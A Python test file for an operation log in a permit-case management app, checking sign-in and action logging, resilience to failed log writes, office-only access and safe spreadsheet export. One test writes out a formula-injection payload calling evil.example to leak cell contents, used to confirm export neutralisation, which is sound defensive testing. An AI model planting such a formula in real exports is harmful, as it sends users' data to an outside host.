"""The operation log (issue 18, item 7): every sign-in (success, failure, throttled) and every action of the desk,
its API and the command line is a row of the case file with user, role, unit, address, time, verb and path, permit
and outcome; the office reads it (``/oplog``, ``GET /api/oplog``) and exports it; a failed write never loses the
user's action."""

from __future__ import annotations

import datetime as dt
import io
import logging
from types import SimpleNamespace

import httpx
from openpyxl import load_workbook
from sqlalchemy import text
from sqlmodel import Session as SqlSession
from sqlmodel import col, select

from api import create_app
from casefile.db import open_casefile
from casefile.tables import OpLogRecord
from casefile.users import add_user
from runtime.settings import Settings
from tests.api_helpers import PASSWORD, TOWNSHIP, desk_browser, make_runtime
from tests.conftest import TASK_QUEUE


def rows(engine, **where) -> list[OpLogRecord]:
    with SqlSession(engine) as db:
        query = select(OpLogRecord)
        for name, value in where.items():
            query = query.where(getattr(OpLogRecord, name) == value)
        return list(db.exec(query.order_by(col(OpLogRecord.id))))


def http(app) -> httpx.AsyncClient:
    return httpx.AsyncClient(transport=httpx.ASGITransport(app=app, client=("203.0.113.7", 50123)), base_url="http://desk.test")


async def test_every_api_sign_in_is_logged_with_its_outcome_address_and_the_name_it_tried(client, engine, staff):
    runtime = SimpleNamespace(settings=Settings(task_queue=TASK_QUEUE, campaign="shanggao-2023", signin_failures_per_account=2),
                              client=client, engine=engine)
    app = create_app(runtime, secret_key="oplog-secret")
    async with http(app) as person:
        ok = await person.post("/api/session", json={"name": "viewer", "password": PASSWORD})
        assert ok.status_code == 200
        for _ in range(2):
            wrong = await person.post("/api/session", json={"name": "expert", "password": "not-the-password"})
            assert wrong.status_code == 401
        throttled = await person.post("/api/session", json={"name": "expert", "password": PASSWORD})
        assert throttled.status_code == 429
        await person.delete("/api/session")

    signed_in = [r for r in rows(engine, action="sign_in", address="203.0.113.7") if r.user_name in ("viewer", "expert")][-4:]
    assert [(r.user_name, r.outcome, r.status) for r in signed_in] == [
        ("viewer", "ok", 200), ("expert", "refused", 401), ("expert", "refused", 401), ("expert", "refused", 429)]
    assert signed_in[0].role == "viewer" and signed_in[0].channel == "api" and signed_in[0].path == "/api/session"
    assert signed_in[1].reason_en == "wrong user name or password"
    assert "too many failed sign-ins" in signed_in[3].reason_en
    at = signed_in[0].at.replace(tzinfo=signed_in[0].at.tzinfo or dt.UTC)
    assert abs(dt.datetime.now(dt.UTC) - at) < dt.timedelta(minutes=5)  # stored in UTC
    signed_out = rows(engine, action="sign_out", address="203.0.113.7")[-1]
    assert (signed_out.user_name, signed_out.outcome) == ("viewer", "ok")


async def test_an_action_is_logged_with_user_role_unit_permit_and_outcome_and_a_refusal_with_its_reason(
    app, people, new_case, engine,
):
    drill = await new_case()
    permit = drill.facts.permit_no
    township = await people("township")
    proposed = await township.act(permit, "propose_disposition", {"path": "cancel", "reason": "资源枯竭"})
    assert proposed.status_code == 200, proposed.text
    again = await township.act(permit, "propose_disposition", {"path": "cancel", "reason": "资源枯竭"})
    assert again.status_code == 409

    logged = rows(engine, permit_no=permit, action="propose_disposition")
    assert [(r.user_name, r.role, r.unit, r.outcome, r.status, r.method) for r in logged] == [
        ("township", "township", TOWNSHIP, "ok", 200, "POST"), ("township", "township", TOWNSHIP, "refused", 409, "POST")]
    assert logged[0].path == f"/api/cases/{permit}/propose_disposition" and logged[0].address == "127.0.0.1"
    assert logged[1].reason_zh and logged[1].reason_en and logged[1].reason_zh != logged[1].reason_en


async def test_a_desk_form_refused_and_flashed_is_logged_as_refused_not_ok(app, new_case, engine):
    drill = await new_case()
    permit = drill.facts.permit_no
    async with desk_browser(app) as county:
        signed = await county.post("/login", data={"name": "county", "password": PASSWORD, "next": "/"})
        assert signed.status_code == 303
        answer = await county.post(f"/cases/{permit}/act/decide_disposition", data={"approve": "true"})
        assert answer.status_code == 303  # back to the case page, with the refusal flashed

    entry = rows(engine, permit_no=permit, action="decide_disposition")[-1]
    assert (entry.channel, entry.user_name, entry.role, entry.outcome, entry.status) == ("desk", "county", "county", "refused", 303)
    assert "阶段" in entry.reason_zh


async def test_a_failed_log_write_loses_no_action_and_is_logged_loudly(client, engine, staff, new_case, tmp_path, caplog):
    broken = open_casefile(f"sqlite:///{tmp_path / 'no-log.db'}", upgrade=True)
    add_user(broken, "township", PASSWORD, "township", township=TOWNSHIP)
    with broken.begin() as connection:
        connection.execute(text("DROP TABLE oplog"))  # every write of the log now fails
    drill = await new_case()
    app = create_app(make_runtime(client, broken), secret_key="broken-log")
    try:
        async with http(app) as township:
            with caplog.at_level(logging.ERROR, logger="minecase.oplog"):
                assert (await township.post("/api/session", json={"name": "township", "password": PASSWORD})).status_code == 200
                proposed = await township.post(f"/api/cases/{drill.facts.permit_no}/propose_disposition",
                                               json={"path": "cancel", "reason": "资源枯竭"})
        assert proposed.status_code == 200, proposed.text
        assert (await drill.status()).stage == "disposition_review"  # the action stands
        failures = [r for r in caplog.records if r.levelno == logging.ERROR and "OPERATION LOG WRITE FAILED" in r.getMessage()]
        assert len(failures) == 2 and "propose_disposition" in failures[1].getMessage()
        assert drill.facts.permit_no in failures[1].getMessage()
    finally:
        broken.dispose()


async def test_the_office_reads_the_log_by_user_outcome_and_days_in_china_time_and_no_one_else_does(app, people):
    async with http(app) as stranger:
        refused = await stranger.post("/api/session", json={"name": "nobody-oplog-1", "password": "wrong-password"})
        assert refused.status_code == 401
    office = await people("office")
    today = dt.datetime.now(dt.timezone(dt.timedelta(hours=8))).date()

    found = await office.get("/api/oplog", user="nobody-oplog-1", outcome="refused", since=today.isoformat(),
                             until=today.isoformat())
    assert found.status_code == 200, found.text
    page = found.json()
    assert page["total"] == 1 and page["pages"] == 1
    entry = page["entries"][0]
    assert (entry["action"], entry["outcome"], entry["status"], entry["address"]) == ("sign_in", "refused", 401, "203.0.113.7")
    assert entry["at"].endswith("+08:00") and entry["at"][:10] == today.isoformat()
    assert entry["reason"] == {"zh": "用户名或密码错误", "en": "wrong user name or password"}
    assert (await office.get("/api/oplog", user="nobody-oplog-1", outcome="ok")).json()["total"] == 0
    yesterday = (today - dt.timedelta(days=1)).isoformat()
    assert (await office.get("/api/oplog", user="nobody-oplog-1", until=yesterday)).json()["total"] == 0
    paged = (await office.get("/api/oplog", page_size=1, page=2)).json()
    assert paged["page"] == 2 and len(paged["entries"]) == 1 and paged["total"] >= 2

    assert (await office.get("/api/oplog", since=today.isoformat(), until=yesterday)).json()["total"] == 0
    assert (await office.get("/api/oplog", since="0001-01-01", until="9999-12-31", user="nobody-oplog-1")).json()["total"] == 1
    for bad in ({"outcome": "maybe"}, {"since": "0"}, {"until": "2026-02-30"}, {"page_size": 201}):
        answer = await office.get("/api/oplog", **bad)
        assert answer.status_code == 422 and answer.json()["detail"]["zh"], bad
    for name in ("county", "viewer", "township"):
        assert (await (await people(name)).get("/api/oplog")).status_code == 403
    async with http(app) as anonymous:
        assert (await anonymous.get("/api/oplog")).status_code == 401


async def test_the_export_writes_every_cell_as_text_with_formula_prefixes_neutralised(app, people):
    formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
    async with http(app) as stranger:
        await stranger.post("/api/session", json={"name": formula[:50], "password": "wrong-password"})
    office = await people("office")
    answer = await office.get("/api/oplog.xlsx", user=formula[:50])
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(answer.content)).active
    assert sheet.max_row == 2
    row = next(sheet.iter_rows(min_row=2, values_only=False))
    written = [cell for cell in row if cell.value is not None]
    assert [c.data_type for c in written] == ["s"] * len(written), [(c.value, c.data_type) for c in row]  # no formula, number
    values = [cell.value for cell in row]
    assert "'" + formula[:50] in values and "401" in values and "refused" in values
    assert values[0][:4].isdigit()  # China time as text, e.g. 2026-11-27 17:20:01
    assert (await (await people("county")).get("/api/oplog.xlsx")).status_code == 403


async def test_the_office_sees_the_log_on_the_desk_with_filters_and_others_do_not(app, engine, staff):
    async with http(app) as stranger:
        await stranger.post("/api/session", json={"name": "nobody-oplog-page", "password": "wrong-password"})
    async with desk_browser(app) as office:
        await office.post("/login", data={"name": "office", "password": PASSWORD, "next": "/"})
        page = await office.get("/oplog", params={"user": "nobody-oplog-page", "outcome": "refused"})
        assert page.status_code == 200
        assert "nobody-oplog-page" in page.text and "203.0.113.7" in page.text and "用户名或密码错误" in page.text
        assert page.text.count('data-testid="oplog-row"') == 1
        assert 'href="/oplog.xlsx?user=nobody-oplog-page&amp;outcome=refused"' in page.text
        export = await office.get("/oplog.xlsx", params={"user": "nobody-oplog-page"})
        assert export.status_code == 200 and load_workbook(io.BytesIO(export.content)).active.max_row == 2
        assert (await office.get("/oplog", params={"since": "2026-13-01"})).status_code == 422
    async with desk_browser(app) as viewer:
        await viewer.post("/login", data={"name": "viewer", "password": PASSWORD, "next": "/"})
        assert (await viewer.get("/oplog")).status_code == 403
        assert 'href="/oplog"' not in (await viewer.get("/board")).text


async def test_a_command_line_action_is_logged_in_the_name_it_was_sent_with_and_its_outcome(minecase, new_case, engine):
    drill = await new_case()
    permit = drill.facts.permit_no
    add_user(engine, "乡镇干部甲", PASSWORD, "township", township=TOWNSHIP, replace=True)  # the CLI acts as a case file user
    done = await minecase("propose", permit, "cancel", "--township", TOWNSHIP, "--reason", "资源枯竭", "--by", "乡镇干部甲")
    assert done.exit_code == 0, done.output
    refused = await minecase("propose", permit, "cancel", "--township", TOWNSHIP, "--reason", "资源枯竭", "--by", "乡镇干部甲")
    assert refused.exit_code == 2

    logged = rows(engine, permit_no=permit, channel="cli")
    assert [(r.action, r.user_name, r.role, r.unit, r.outcome, r.status) for r in logged] == [
        ("propose_disposition", "乡镇干部甲", "township", TOWNSHIP, "ok", 0),
        ("propose_disposition", "乡镇干部甲", "township", TOWNSHIP, "refused", 2)]
    assert logged[1].reason_en and "@" in (logged[0].address or "")


async def test_what_the_outer_guards_refuse_is_logged_too_with_the_signed_in_user(app, people, engine):
    office = await people("office")
    crossed = await office.http.post("/api/urges", json={"items": [{"permit_no": "C0000000000000000000001"}]},
                                     headers={"Origin": "http://evil.example"})
    assert crossed.status_code == 403
    huge = await office.http.post("/api/urges", content=b"x" * (65 * 1024), headers={"content-type": "application/json"})
    assert huge.status_code == 413
    urges = rows(engine, action="urge")[-2:]
    # refused by its declared length before the session is read: who sent it is not known, where from is
    assert [(r.user_name, r.outcome, r.status) for r in urges] == [("office", "refused", 403), (None, "refused", 413)]
    assert urges[1].address == "127.0.0.1"
    assert urges[0].reason_en == "a request from another site is refused" and "64 KB" in urges[1].reason_en


async def test_a_desk_sign_in_is_logged_under_the_name_it_tried_even_from_someone_elses_session(app, engine, staff):
    async with desk_browser(app) as browser:
        assert (await browser.post("/login", data={"name": "viewer", "password": PASSWORD, "next": "/"})).status_code == 303
        failed = await browser.post("/login", data={"name": "expert", "password": "wrong-password", "next": "/"})
        assert failed.status_code == 401
        await browser.post("/logout")
    desk = [r for r in rows(engine, channel="desk") if r.action in ("sign_in", "sign_out")][-3:]
    assert [(r.action, r.user_name, r.role, r.outcome, r.status) for r in desk] == [
        ("sign_in", "viewer", "viewer", "ok", 303), ("sign_in", "expert", None, "refused", 401),
        ("sign_out", "viewer", "viewer", "ok", 303)]
    assert desk[1].reason_en == "wrong user name or password" and desk[1].path == "/login"
